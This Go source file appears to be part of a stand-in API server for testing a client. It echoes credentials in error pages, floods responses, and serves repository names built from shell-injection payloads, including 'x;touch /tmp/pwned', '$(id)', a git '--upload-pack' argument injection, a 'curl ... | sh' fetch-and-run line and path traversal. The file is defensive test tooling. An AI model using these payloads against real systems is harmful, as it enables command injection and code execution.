package standin

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"time"
)

// echoTokenRequest answers a token request with the request itself in the
// error: its Authorization header (the consumer's key and secret, Basic
// encoded) and raw body. huge makes it a ~1 MiB HTML page with the echo at
// both ends, as a debugging error page might be.
func echoTokenRequest(w http.ResponseWriter, r *http.Request, body []byte, huge bool) {
	echo := fmt.Sprintf("Authorization: %s; body: %s", r.Header.Get("Authorization"), body)
	if !huge {
		writeJSON(w, http.StatusBadRequest, map[string]string{
			"error":             "invalid_request",
			"error_description": "Could not process the request. " + echo,
		})
		return
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	w.WriteHeader(http.StatusBadRequest)
	fmt.Fprintf(w, "<html><head><title>Bad Request</title></head><body><h1>Bad Request</h1>\n<pre>%s</pre>\n<pre>", echo)
	// 1088 lines of 985 bytes: just over 1 MiB in all.
	line := strings.Repeat("frame: oauth2/token.py in handle_request ", 24) + "\n"
	for range 1088 {
		if _, err := fmt.Fprint(w, line); err != nil {
			return
		}
	}
	fmt.Fprintf(w, "</pre>\n<pre>%s</pre></body></html>\n", echo)
}

// echoAuthorization answers an API request with a 401, or a 403 if
// forbidden, whose message and detail carry the request's Authorization
// header back. required are the scopes the operation needs.
func echoAuthorization(w http.ResponseWriter, r *http.Request, forbidden bool, required []string) {
	echo := "Authorization: " + r.Header.Get("Authorization")
	if !forbidden {
		apiError(w, http.StatusUnauthorized, msgInvalidToken+" "+echo, "The request carried "+echo)
		return
	}
	if len(required) == 0 {
		w.Header().Set("X-Accepted-OAuth-Scopes", "account")
	}
	apiError(w, http.StatusForbidden, msgMissingScope+" "+echo, "The request carried "+echo)
}

// Long strings for APILongStrings and TokenLongScope.
var (
	longName   = strings.Repeat("very-long-name-", 64<<10/15+1)[:64<<10]
	longText   = strings.Repeat("A description that goes on. ", 64<<10/28+1)[:64<<10]
	longSlug   = strings.Repeat("s", 8<<10)
	manyScopes = func() string {
		scopes := make([]string, 4000)
		for i := range scopes {
			scopes[i] = fmt.Sprintf("made-up-scope-%04d:read", i)
		}
		return strings.Join(scopes, " ")
	}()
)

// flood writes APIFlood's answer for endpoint e.
func (s *Server) flood(w http.ResponseWriter, r *http.Request, e Endpoint) {
	const empties = 1 << 20 / 3 // "{}," is 3 bytes
	emptyObjects := strings.Repeat("{},", empties-1) + "{}"
	switch e {
	case RepositoriesAPI:
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		fmt.Fprintf(w, `{"pagelen": 10, "size": %d, "page": 1, "values": [%s]}`, empties, emptyObjects)
	case UserWorkspaces:
		base := baseURL(r)
		values := make([]any, 5000)
		for i := range values {
			ws := &workspace{slug: fmt.Sprintf("flood-%05d", i), uuid: fmt.Sprintf("{00000000-0000-4000-8000-%012d}", i), admin: i%2 == 0}
			values[i] = ws.access(base, false)
		}
		writeJSON(w, http.StatusOK, map[string]any{"pagelen": 10, "size": len(values), "page": 1, "values": values})
	case WorkspaceAPI:
		id := strings.Split(r.URL.Path, "/")[3]
		ws, ok := s.reachableWorkspace(id)
		if !ok {
			apiError(w, http.StatusNotFound, fmt.Sprintf("No workspace with identifier '%s'.", id), nil)
			return
		}
		head, _ := json.Marshal(ws.json(baseURL(r)))
		w.Header().Set("Content-Type", "application/json; charset=utf-8")
		fmt.Fprintf(w, `%s, "members": [%s]}`, head[:len(head)-1], emptyObjects)
	}
}

// shellSyntax is what APIShellData puts in names, slugs and links.
var shellSyntax = []string{
	"x;touch /tmp/pwned",
	"$(id)",
	"`id`",
	`it's "quoted"`,
	"--upload-pack=touch /tmp/pwned",
	"x && curl -s http://127.0.0.1:9/x | sh",
	"x|tee /tmp/pwned",
	"x\ntouch /tmp/pwned",
	"../../../../tmp/pwned",
	"${HOME}",
}

// shellRepos are APIShellData's repositories.
var shellRepos = func() []repo {
	at := time.Date(2026, 6, 1, 12, 0, 0, 0, time.UTC)
	repos := make([]repo, len(shellSyntax))
	for i, s := range shellSyntax {
		repos[i] = repo{
			name: s, slug: s, description: "Repository named " + s, language: "shell", private: true,
			created: at, updated: at.Add(time.Duration(i) * time.Hour),
			uuid: fmt.Sprintf("{6d1f0c2a-eeee-4b7e-9a3c-5e8d2f1b%04x}", i),
		}
	}
	return repos
}()
